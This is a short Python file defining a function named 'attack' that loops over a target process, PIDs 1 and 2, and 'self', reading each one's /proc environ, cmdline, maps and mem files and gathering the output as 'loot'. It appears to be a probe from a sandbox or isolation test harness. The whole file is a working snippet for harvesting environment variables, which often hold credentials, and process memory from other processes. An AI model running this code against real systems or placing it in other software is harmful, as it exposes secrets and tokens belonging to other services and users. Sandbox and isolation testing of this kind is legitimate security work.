"""Read the environment of the parent, of the server and of this process through /proc."""


def attack(target):
    loot = []
    for pid in [target["pid"], 1, 2, "self", "thread-self"]:
        for name in ["environ", "cmdline", "maps", "mem"]:
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    loot.append(file.read(1000).decode(errors="replace"))
            except OSError:
                pass
    return loot
